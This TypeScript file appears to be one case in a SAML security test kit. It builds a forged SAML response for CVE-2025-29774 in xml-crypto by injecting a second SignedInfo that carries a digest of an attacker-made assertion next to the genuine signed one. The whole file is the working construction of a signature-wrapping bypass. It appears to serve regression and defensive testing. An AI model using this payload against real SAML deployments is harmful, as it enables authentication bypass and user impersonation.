/** One SignedInfo is signed, the digest is read from the other. */
import type { SamlCase } from './kit.js';
import { response } from './kit-documents.js';
import { canonicalOf, digestOf, EXCLUSIVE, putSignature, RSA_SHA256, reference, takeSignature } from './kit-signing.js';

export const attack: SamlCase = {
  name: 'two SignedInfo in one signature',
  source: 'CVE-2025-29774 (xml-crypto, SAMLStorm)',
  check: 'saml.signature',
  build: (kit) => {
    const { signature } = takeSignature(kit.signed());
    const bare = kit.evil({ assertionId: '_assertion' });
    const forged = reference('#_assertion', digestOf(canonicalOf(bare, '_assertion')));
    const info = `<ds:SignedInfo><ds:CanonicalizationMethod Algorithm="${EXCLUSIVE}"></ds:CanonicalizationMethod><ds:SignatureMethod Algorithm="${RSA_SHA256}"></ds:SignatureMethod>${forged}</ds:SignedInfo>`;
    return response(putSignature(bare, signature.replace('<ds:SignedInfo>', `${info}<ds:SignedInfo>`)));
  },
};
